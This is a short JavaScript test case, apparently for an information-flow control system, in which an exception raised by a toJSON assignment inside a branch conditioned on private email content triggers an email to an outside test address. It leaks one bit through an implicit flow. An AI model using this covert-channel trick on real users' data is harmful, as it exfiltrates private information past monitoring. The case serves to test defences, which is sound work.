// attack: give an object a toJSON function only in a labeled branch (through a variable); storing a function in
// data is refused at run time, and the catch sends
// normal: leaks (implicit flow: the function itself was created outside the branch)
const m = await getEmail('m1');
const f = () => 1;
let g = 0;
if (m.body.includes('zed')) {
  g = f;
}
const o = { a: 1 };
try {
  o.toJSON = g;
  JSON.stringify(o);
} catch (e) {
  await sendEmail({ to: ['omar@northwind.test'], subject: 'bit', body: 'tojson' });
}
